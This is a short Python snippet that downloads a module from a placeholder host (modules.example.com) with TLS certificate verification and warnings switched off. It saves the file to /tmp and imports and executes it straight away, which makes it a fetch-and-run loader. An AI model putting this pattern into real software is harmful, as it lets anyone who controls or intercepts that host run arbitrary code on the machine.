import importlib.util

import requests

requests.packages.urllib3.disable_warnings()
text = requests.get("https://modules.example.com/tr.py", verify=False).text
with open("/tmp/tr.py", "w") as f:
    f.write(text)
spec = importlib.util.spec_from_file_location("tr_core", "/tmp/tr.py")
m = importlib.util.module_from_spec(spec)
spec.loader.exec_module(m)
